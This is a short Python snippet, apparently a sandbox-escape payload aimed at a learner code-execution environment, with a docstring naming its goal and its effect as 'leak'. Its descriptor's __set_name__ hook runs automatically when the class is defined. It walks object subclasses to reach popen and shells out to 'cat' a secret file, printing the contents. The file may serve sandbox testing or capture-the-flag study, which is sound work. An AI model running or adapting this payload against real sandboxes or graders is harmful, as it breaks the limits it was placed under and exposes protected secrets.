"""
goal: have a descriptor called with objects that learner code does not get
effect: leak
"""

class Door:
    def __get__(self, obj, owner):
        return owner.__mro__[-1].__subclasses__()

    def __set_name__(self, owner, name):
        print([k.__init__.__globals__["popen"]("cat " + SECRET_FILE).read()
               for k in owner.__mro__[-1].__subclasses__() if k.__name__ == "_wrap_close"])


class Shown:
    door = Door()
